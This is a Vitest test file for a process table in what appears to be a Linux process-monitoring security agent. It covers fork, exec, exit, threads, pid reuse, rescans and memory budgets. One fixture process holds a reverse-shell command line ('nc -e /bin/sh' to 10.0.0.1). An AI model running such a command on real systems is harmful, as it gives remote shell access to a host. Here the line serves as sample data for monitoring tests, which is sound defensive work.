import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FixtureProcFs } from '../../src/process/procfs.js';
import { ProcessTable, decodeExitStatus, entityIdFor } from '../../src/process/process-table.js';
import { makeProcTree, removeProcess, removeTree, writeProcess, type FixtureProcess } from './proc-tree.js';
import { SteppedClock, changeEvent, execEvent, exitEvent, forkEvent, goneSnapshot, threadEvent } from './raw-events.js';

const BASIC = new URL('../fixtures/proc/basic', import.meta.url).pathname;
const HOST = 'host-id-1';

const BASH: FixtureProcess = { pid: 1200, ppid: 640, comm: 'bash', argv: ['-bash'], exe: '/usr/bin/bash', sid: 1200, ttyNr: 34816, startTicks: 50_000 };

describe('ProcessTable', () => {
  let root: string;
  let procfs: FixtureProcFs;
  let clock: SteppedClock;
  let table: ProcessTable;

  beforeEach(() => {
    root = makeProcTree();
    writeProcess(root, { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startTicks: 5 });
    writeProcess(root, { pid: 640, ppid: 1, comm: 'sshd', argv: ['sshd: /usr/sbin/sshd -D'], exe: '/usr/sbin/sshd', startTicks: 900 });
    writeProcess(root, BASH);
    procfs = new FixtureProcFs(root);
    clock = new SteppedClock();
    table = new ProcessTable({ procfs, hostId: HOST, clock, exitedTtlMs: 60_000 });
    table.scan();
  });

  afterEach(() => removeTree(root));

  /** A fork as the kernel does it: the child appears in /proc, then the event arrives. */
  function forkOnly(p: FixtureProcess): void {
    writeProcess(root, p);
    table.applyFork(forkEvent(p.ppid, p.pid));
  }

  /** fork + exec of `p`. */
  function spawn(p: FixtureProcess): void {
    forkOnly(p);
    table.applyExec(execEvent(p.pid, procfs.snapshot(p.pid)));
  }

  function execAs(p: FixtureProcess) {
    writeProcess(root, p);
    return table.applyExec(execEvent(p.pid, procfs.snapshot(p.pid)));
  }

  /** An exec of `p` (already in the table) in another table, judged. */
  function spawnAgain(other: ProcessTable, p: FixtureProcess): void {
    writeProcess(root, p);
    const { entry } = other.applyExec(execEvent(p.pid, procfs.snapshot(p.pid)));
    other.settle(entry);
  }

  /** fork + exec of `p` in another table over the same /proc tree, judged as the stream judges it. */
  function spawnIn(other: ProcessTable, p: FixtureProcess): void {
    writeProcess(root, p);
    other.applyFork(forkEvent(p.ppid, p.pid));
    const { entry } = other.applyExec(execEvent(p.pid, procfs.snapshot(p.pid)));
    other.settle(entry);
  }

  it('seeds running processes with names and parents', () => {
    const seeded = new ProcessTable({ procfs: new FixtureProcFs(BASIC), hostId: HOST, clock });
    seeded.scan();
    const tricky = seeded.get(1300)!;
    expect(tricky.image.name).toBe('tricky');
    expect(tricky.image.args).toEqual(['/opt/tool/bin/tricky', '--flag', '']);
    expect(tricky.parent?.image.name).toBe('bash');
    expect(tricky.parent?.parent?.image.name).toBe('sshd');
    expect(seeded.get(2)!.image.name).toBe('kthreadd');
    expect(tricky.startMs).toBe(1_700_000_000_000 + 600_000);
    expect(seeded.stats()).toMatchObject({ size: 5, live: 5, exited: 0, scans: 1 });
  });

  it('follows fork, exec and exit', () => {
    forkOnly({ pid: 2000, ppid: 1200, comm: 'bash', argv: ['-bash'], exe: '/usr/bin/bash', sid: 1200, startTicks: 70_000 });
    const forked = table.get(2000)!;
    expect(forked.image).toBe(table.get(1200)!.image);
    expect(forked.entityId).toBe(entityIdFor(HOST, 2000, 70_000));
    expect(forked.startEstimated).toBe(false);

    const { entry, described } = execAs({ pid: 2000, ppid: 1200, comm: 'ls', argv: ['ls', '-la'], exe: '/usr/bin/ls', sid: 1200, startTicks: 70_000 });
    expect(described).toBe(true);
    expect(entry).toBe(forked);
    expect(entry.image.args).toEqual(['ls', '-la']);
    expect(entry.previous.map((i) => i.executable)).toEqual(['/usr/bin/bash']);
    expect(entry.parent?.pid).toBe(1200);

    const exited = table.applyExit(exitEvent(2000, 2 << 8))!;
    expect(exited.exitCode).toBe(2);
    expect(table.get(2000)).toBeUndefined();
    expect(table.stats()).toMatchObject({ live: 3, exited: 1 });
  });

  it('keeps the parent of a child whose parent exited first (reparented to init)', () => {
    spawn({ pid: 2100, ppid: 1200, comm: 'sh', argv: ['sh', '-c', 'sleep 1 & exit'], exe: '/usr/bin/dash', startTicks: 70_010 });
    spawn({ pid: 2101, ppid: 2100, comm: 'sh', argv: ['sh', '-c', 'sleep 1 & exit'], exe: '/usr/bin/dash', startTicks: 70_011 });
    table.applyExit(exitEvent(2100));
    removeProcess(root, 2100);
    const { entry } = execAs({ pid: 2101, ppid: 1, comm: 'sleep', argv: ['sleep', '1'], exe: '/usr/bin/sleep', startTicks: 70_011 });
    expect(entry.parent?.pid).toBe(2100);
    expect(entry.parent?.image.executable).toBe('/usr/bin/dash');
    expect(entry.parent?.exitedAtMs).toBe(clock.now);
    expect(entry.ppid).toBe(2100);
  });

  it('records every replaced image as previous when a pid execs twice (setsid, nohup)', () => {
    forkOnly({ pid: 2200, ppid: 1200, comm: 'bash', argv: ['-bash'], exe: '/usr/bin/bash', startTicks: 70_020 });
    execAs({ pid: 2200, ppid: 1200, comm: 'setsid', argv: ['setsid', 'bash', '-c', 'id'], exe: '/usr/bin/setsid', startTicks: 70_020 });
    table.applyChange(changeEvent('sid', 2200));
    const { entry } = execAs({ pid: 2200, ppid: 1200, comm: 'bash', argv: ['bash', '-c', 'id'], exe: '/usr/bin/bash', sid: 2200, startTicks: 70_020 });
    expect(entry.image.args).toEqual(['bash', '-c', 'id']);
    expect(entry.previous.map((i) => i.args)).toEqual([['-bash'], ['setsid', 'bash', '-c', 'id']]);
    expect(entry.sid).toBe(2200);
    expect(table.leader(2200, 'session')).toBe(entry);
  });

  it('keeps only the most recent previous images', () => {
    const small = new ProcessTable({ procfs, hostId: HOST, clock, maxPreviousImages: 2 });
    small.scan();
    for (const name of ['a', 'b', 'c']) {
      writeProcess(root, { ...BASH, comm: name, argv: [name], exe: `/bin/${name}` });
      small.applyExec(execEvent(1200, procfs.snapshot(1200)));
    }
    expect(small.get(1200)!.previous.map((i) => i.executable)).toEqual(['/bin/a', '/bin/b']);
  });

  it('still yields an entry for an exec whose process was already gone, with the parent from the fork', () => {
    table.applyFork(forkEvent(1200, 2300));
    const { entry, described } = table.applyExec(execEvent(2300, goneSnapshot()));
    expect(described).toBe(false);
    expect(entry.pid).toBe(2300);
    expect(entry.parent?.pid).toBe(1200);
    expect(entry.image.args).toBeNull();
    expect(entry.startEstimated).toBe(true);
    const noSnapshot = table.applyExec(execEvent(2301, null));
    expect(noSnapshot.entry.pid).toBe(2301);
    expect(table.stats().execsWithoutSnapshot).toBe(2);
  });

  it('keeps threads out of the table, counting them on their process', () => {
    expect(table.applyFork(threadEvent('fork', 1200, 1201))).toBeNull();
    expect(table.get(1200)?.threads).toBe(1);
    expect(table.applyExit(threadEvent('exit', 1200, 1201))).toMatchObject({ ended: false });
    expect(table.get(1200)).toBeDefined();
    expect(table.get(1200)?.threads).toBe(0);
    expect(table.get(1201)).toBeUndefined();
  });

  it('ends a process with its last thread, not with its main thread', () => {
    spawn({ pid: 2300, ppid: 1200, comm: 'worker', argv: ['worker'], exe: '/usr/bin/worker', startTicks: 70_030 });
    table.applyFork(threadEvent('fork', 2300, 2301));
    table.applyFork(threadEvent('fork', 2300, 2302));
    // The main thread leaves first (pthread_exit): the process lives on in its threads.
    expect(table.applyExit(exitEvent(2300, 3 << 8))).toMatchObject({ ended: false });
    expect(table.get(2300)).toBeDefined();
    expect(table.applyExit(threadEvent('exit', 2300, 2301))).toMatchObject({ ended: false });
    const last = table.applyExit(threadEvent('exit', 2300, 2302));
    expect(last).toMatchObject({ ended: true, exitCode: 3 });
    expect(last.entry?.pid).toBe(2300);
    expect(table.get(2300)).toBeUndefined();
  });

  it('keeps a process whose exec from another thread made the old main thread exit first (Go syscall.Exec)', () => {
    spawn({ pid: 2310, ppid: 1200, comm: 'goprog', argv: ['goprog'], exe: '/usr/bin/goprog', startTicks: 70_031 });
    table.applyFork(threadEvent('fork', 2310, 2311));
    // de_thread: the old leader exits, then the exec is reported under the tgid.
    expect(table.applyExit(exitEvent(2310))).toMatchObject({ ended: false });
    writeProcess(root, { pid: 2310, ppid: 1200, comm: 'sh', argv: ['sh', '-c', 'id'], exe: '/usr/bin/dash', startTicks: 70_031 });
    const { entry } = table.applyExec(execEvent(2310, procfs.snapshot(2310)));
    expect(entry.parent?.pid).toBe(1200);
    expect(entry.previous.at(-1)?.executable).toBe('/usr/bin/goprog');
    expect(entry.threads).toBe(0);
    expect(table.applyExit(exitEvent(2310))).toMatchObject({ ended: true });
  });

  it('expires exited processes after the TTL while their children keep them', () => {
    spawn({ pid: 2400, ppid: 1200, comm: 'sh', argv: ['sh'], exe: '/usr/bin/dash', startTicks: 70_040 });
    spawn({ pid: 2401, ppid: 2400, comm: 'sh', argv: ['sh'], exe: '/usr/bin/dash', startTicks: 70_041 });
    table.applyExit(exitEvent(2400));
    clock.advance(59_999);
    table.expire();
    expect(table.stats()).toMatchObject({ exited: 1, expired: 0 });
    clock.advance(1);
    table.expire();
    expect(table.stats()).toMatchObject({ exited: 0, expired: 1, size: 4 });
    expect(table.get(2401)!.parent?.image.executable).toBe('/usr/bin/dash');
  });

  it('caps its size, evicting the oldest exited processes first', () => {
    const capped = new ProcessTable({ procfs, hostId: HOST, clock, maxEntries: 10 });
    capped.scan(); // 3 live
    for (let pid = 3000; pid < 3020; pid++) {
      capped.applyFork(forkEvent(1200, pid, BigInt(pid) * 1_000_000_000n));
      capped.applyExit(exitEvent(pid));
    }
    const stats = capped.stats();
    expect(stats.size).toBe(10);
    expect(stats.live).toBe(3);
    expect(stats.evictions).toBe(13);
    expect(stats.evictionsLive).toBe(0);
    expect(capped.leader(3019, 'session')).toBeUndefined();
    // Live entries go only when nothing exited is left.
    for (let pid = 4000; pid < 4010; pid++) capped.applyFork(forkEvent(1200, pid, BigInt(pid) * 1_000_000_000n));
    expect(capped.stats()).toMatchObject({ size: 10, exited: 0, evictionsLive: 3 });
  });

  it('keeps its images within a byte budget: the oldest exited go first, live ones are cut down, never dropped', () => {
    const budget = 4 * 1024 * 1024;
    const small = new ProcessTable({ procfs, hostId: HOST, clock, maxKeptBytes: budget });
    small.scan();
    const big = 'x'.repeat(4_000);
    const bigPath = `/tmp/${'d'.repeat(3_000)}/payload`;
    // Short-lived processes with long argv: without the budget, each kept ~40 KB until the count
    // cap. The 256 most recent exited stay whatever their size.
    for (let pid = 3000; pid < 3400; pid++) {
      spawnIn(small, { pid, ppid: 1200, comm: 'payload', argv: [bigPath, big, String(pid)], exe: bigPath, cwd: bigPath, startTicks: 60_000 + pid });
      small.applyExit(exitEvent(pid));
    }
    let stats = small.stats();
    expect(stats.exited).toBeGreaterThanOrEqual(256);
    expect(stats.evictions + stats.exited).toBe(400);
    // The recent exited that stay are cut down to fit.
    expect(stats.keptBytes).toBeLessThanOrEqual(budget);
    expect(stats.leaned).toBeGreaterThan(0);
    expect(stats.live).toBe(3);
    const exitedLeaned = stats.leaned;

    // Live heavy processes fill it: they are cut down in the order they became heavy, and stay.
    for (let pid = 5000; pid < 5250; pid++) {
      spawnIn(small, { pid, ppid: 1200, comm: 'sleeper', argv: [bigPath, big, String(pid)], exe: bigPath, cwd: bigPath, startTicks: 70_000 + pid });
    }
    stats = small.stats();
    expect(stats.keptBytes).toBeLessThanOrEqual(budget);
    expect(stats.exited).toBeGreaterThanOrEqual(256);
    expect(stats.live).toBe(253);
    expect(stats.evictionsLive).toBe(0);
    expect(stats.leaned).toBeGreaterThan(exitedLeaned);
    const first = small.get(5000)!;
    const last = small.get(5249)!;
    // The first heavy one was cut: argv head and end kept, paths cut in their middle.
    expect(first.image.argsTruncated).toBe(true);
    expect(first.image.args!.join(' ').length).toBeLessThanOrEqual(600);
    expect(first.image.args![0]!.startsWith('/tmp/ddd')).toBe(true);
    expect(first.image.args!.at(-1)).toBe('5000');
    expect(first.image.executable!.length).toBeLessThanOrEqual(512);
    expect(first.image.executable!.startsWith('/tmp/ddd')).toBe(true);
    expect(first.image.executable!.endsWith('/payload')).toBe(true);
    expect(first.image.workingDirectory!.length).toBeLessThanOrEqual(512);
    expect(first.image.name).toBe('payload');
    // The last one came in with room left: whole.
    expect(last.image.executable).toBe(bigPath);
    expect(last.image.args).toEqual([bigPath, big, '5249']);
    // A rescan finds the cut-down processes running what they ran: no missed exec, nothing recovered.
    const missed = small.stats().missedExecs;
    const recovered = small.scan().filter((entry) => entry.pid >= 5000);
    expect(recovered).toEqual([]);
    expect(small.stats().missedExecs).toBe(missed);
  });

  it('counts an image its forks share once, gives it back with its last holder, and cuts an exec only once it is judged', () => {
    const big = 'z'.repeat(6_000);
    const counted = new ProcessTable({ procfs, hostId: HOST, clock, exitedTtlMs: 1_000 });
    counted.scan();
    const base = counted.stats().keptBytes;
    spawnIn(counted, { pid: 3000, ppid: 1200, comm: 'parent', argv: ['parent', big], exe: '/usr/bin/parent', startTicks: 60_000 });
    const withParent = counted.stats().keptBytes;
    for (let pid = 3001; pid <= 3050; pid++) counted.applyFork(forkEvent(3000, pid));
    expect(counted.stats().keptBytes).toBe(withParent);
    // The parent runs something else: its old image is still held, by its forks.
    spawnAgain(counted, { pid: 3000, ppid: 1200, comm: 'other', argv: ['other'], exe: '/usr/bin/other', startTicks: 60_000 });
    expect(counted.stats().keptBytes).toBeGreaterThan(withParent);
    for (let pid = 3001; pid <= 3050; pid++) counted.applyExit(exitEvent(pid));
    clock.advance(1_001);
    counted.expire();
    expect(counted.stats().keptBytes).toBeLessThan(withParent);

    expect(counted.stats().keptBytes).toBeGreaterThan(base);

    // Over the budget, an exec still gets its whole image until it is judged (its document built).
    const tight = new ProcessTable({ procfs, hostId: HOST, clock, maxKeptBytes: 16 * 1024 });
    tight.scan();
    const huge = 'h'.repeat(40_000);
    writeProcess(root, { pid: 3100, ppid: 1200, comm: 'huge', argv: ['huge', huge], exe: '/usr/bin/huge', startTicks: 61_000 });
    tight.applyFork(forkEvent(1200, 3100));
    const { entry } = tight.applyExec(execEvent(3100, procfs.snapshot(3100)));
    expect(entry.image.args).toEqual(['huge', huge]);
    expect(tight.stats().keptBytes).toBeGreaterThan(16 * 1024);
    tight.settle(entry);
    expect(tight.stats()).toMatchObject({ leaned: 1, live: 5, evictionsLive: 0 });
    expect(tight.stats().keptBytes).toBeLessThanOrEqual(16 * 1024);
    expect(entry.image.args!.join(' ').length).toBeLessThanOrEqual(600);
    expect(entry.image.args![0]).toBe('huge');
  });

  it('counts what it holds: the budget is spent by images and given back when entries leave', () => {
    const counted = new ProcessTable({ procfs, hostId: HOST, clock, exitedTtlMs: 1_000 });
    counted.scan();
    const base = counted.stats().keptBytes;
    expect(base).toBeGreaterThan(0);
    spawnIn(counted, { pid: 3000, ppid: 1200, comm: 'tool', argv: ['tool', 'y'.repeat(4_000)], exe: '/usr/bin/tool', startTicks: 60_000 });
    const withOne = counted.stats().keptBytes;
    expect(withOne - base).toBeGreaterThan(2 * 4_000 * 2);
    counted.applyExit(exitEvent(3000));
    expect(counted.stats().keptBytes).toBe(withOne);
    clock.advance(1_001);
    counted.expire();
    expect(counted.stats().keptBytes).toBe(base);
  });

  it('gives the same process the same entity id in another agent run, and another host a different one', () => {
    const again = new ProcessTable({ procfs, hostId: HOST, clock });
    again.scan();
    expect(again.get(1200)!.entityId).toBe(table.get(1200)!.entityId);
    const other = new ProcessTable({ procfs, hostId: 'host-id-2', clock });
    other.scan();
    expect(other.get(1200)!.entityId).not.toBe(table.get(1200)!.entityId);
    expect(table.get(1200)!.entityId).toMatch(/^[A-Za-z0-9+/]{24}$/);
  });

  it('estimates the start of a fork child that vanished before its stat was read', () => {
    const child = table.applyFork(forkEvent(1200, 2500, 1_234_567_890_123n))!;
    expect(child.startEstimated).toBe(true);
    expect(child.startTicks).toBe(123_456);
  });

  it('resynchronises from /proc after a loss', () => {
    spawn({ pid: 2600, ppid: 1200, comm: 'vim', argv: ['vim'], exe: '/usr/bin/vim', startTicks: 70_060 });
    spawn({ pid: 2700, ppid: 1200, comm: 'top', argv: ['top'], exe: '/usr/bin/top', startTicks: 70_070 });
    // Lost while overflowing: 2600 exited, 2700 exec'd, 2800 started, 2900 started and got pid 2900 reused.
    removeProcess(root, 2600);
    writeProcess(root, { pid: 2700, ppid: 1200, comm: 'htop', argv: ['htop', '-d', '5'], exe: '/usr/bin/htop', startTicks: 70_070 });
    writeProcess(root, { pid: 2800, ppid: 2700, comm: 'less', argv: ['less'], exe: '/usr/bin/less', startTicks: 70_080 });
    table.applyFork(forkEvent(1200, 2900));
    const stale = table.get(2900)!;
    writeProcess(root, { pid: 2900, ppid: 1, comm: 'cron', argv: ['cron'], exe: '/usr/sbin/cron', startTicks: 99_000 });
    stale.startEstimated = false; // it was read exactly at fork time in real life

    table.scan();
    expect(table.get(2600)).toBeUndefined();
    expect(table.get(2700)!.image.args).toEqual(['htop', '-d', '5']);
    expect(table.get(2700)!.previous.map((i) => i.executable)).toEqual(['/usr/bin/bash', '/usr/bin/top']);
    expect(table.get(2800)!.parent?.image.name).toBe('htop');
    expect(table.get(2900)!.image.name).toBe('cron');
    expect(table.stats()).toMatchObject({ scans: 2, missedExecs: 1, pidReuses: 1 });
  });

  it("keeps the exec'd image when a process's fork comes after its exec, and describes the fork as it was", () => {
    const nc: FixtureProcess = { pid: 3100, ppid: 1200, comm: 'nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '9'], exe: '/usr/bin/nc', startTicks: 80_000 };
    writeProcess(root, nc);
    const { entry: exec } = table.applyExec(execEvent(nc.pid, procfs.snapshot(nc.pid)));
    // The same process (its start time), late.
    const fork = table.applyFork({ ...forkEvent(1200, nc.pid), startTicks: 80_000 });
    expect(fork).not.toBeNull();
    expect(fork!.image.name).toBe('bash');
    expect(fork!.entityId).toBe(exec.entityId);
    expect(table.get(nc.pid)).toBe(exec);
    expect(table.get(nc.pid)!.image.args).toEqual(nc.argv);
    // Another process under the pid (another start time) is a reuse, as before.
    table.applyFork({ ...forkEvent(1200, nc.pid), startTicks: 80_500 });
    expect(table.get(nc.pid)!.image.name).toBe('bash');
    expect(table.stats()).toMatchObject({ lateForks: 1, pidReuses: 1 });
  });

  it('tracks uid and gid changes and comm of unnamed processes', () => {
    table.applyChange(changeEvent('uid', 1200, { ruid: 1000, euid: 0 }));
    table.applyChange(changeEvent('gid', 1200, { rgid: 1000, egid: 27 }));
    expect(table.get(1200)).toMatchObject({ ruid: 1000, euid: 0, rgid: 1000, egid: 27 });
    table.applyExec(execEvent(1200, goneSnapshot()));
    table.applyChange(changeEvent('comm', 1200, { comm: 'worker' }));
    expect(table.get(1200)!.image.name).toBe('worker');
  });

  it('decodes wait statuses like a shell', () => {
    expect(decodeExitStatus(0)).toBe(0);
    expect(decodeExitStatus(1 << 8)).toBe(1);
    expect(decodeExitStatus(9)).toBe(137);
    expect(decodeExitStatus(15 | 0x80)).toBe(143); // core dump bit set
  });
});

describe('exec snapshots of a reused pid', () => {
  it('does not describe an exec with the process that took its pid afterwards', async () => {
    const { ProcessTable } = await import('../../src/process/process-table.js');
    const root = makeProcTree();
    try {
      writeProcess(root, { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startTicks: 5 });
      writeProcess(root, { pid: 700, ppid: 1, comm: 'sshd', argv: ['sshd'], exe: '/usr/sbin/sshd', startTicks: 90 });
      const procfs = new FixtureProcFs(root);
      const table = new ProcessTable({ procfs, hostId: 'h', clock: new SteppedClock() });
      table.scan();
      const snapshot = { ...procfs.snapshot(700)!, startedAfterEvent: true };
      const result = table.applyExec(execEvent(700, snapshot));
      expect(result.described).toBe(false);
      expect(result.entry.image.name).not.toBe('sshd');
      expect(table.stats().execsWithoutSnapshot).toBe(1);
    } finally {
      removeTree(root);
    }
  });
});

describe('rescans and the compact images the table keeps', () => {
  it('does not take a long or non-UTF-8 argv it already judged for a missed exec', async () => {
    const { ProcessTable } = await import('../../src/process/process-table.js');
    const root = makeProcTree();
    try {
      writeProcess(root, { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startTicks: 5 });
      writeProcess(root, { pid: 800, ppid: 1, comm: 'sh', argv: ['sh', '-c', 'sleep 9', 'x'.repeat(20_000)], exe: '/usr/bin/dash', startTicks: 80 });
      writeProcess(root, { pid: 801, ppid: 1, comm: 'sh', argv: Buffer.from([0x73, 0x68, 0, 0xff, 0xfe, 0]), exe: '/usr/bin/dash', startTicks: 81 });
      const table = new ProcessTable({ procfs: new FixtureProcFs(root), hostId: 'h', clock: new SteppedClock() });
      for (const entry of table.scan()) table.settle(entry);
      expect(table.get(800)!.image.argsTruncated).toBe(true);
      expect(table.scan()).toEqual([]);
      expect(table.stats().missedExecs).toBe(0);
    } finally {
      removeTree(root);
    }
  });
});
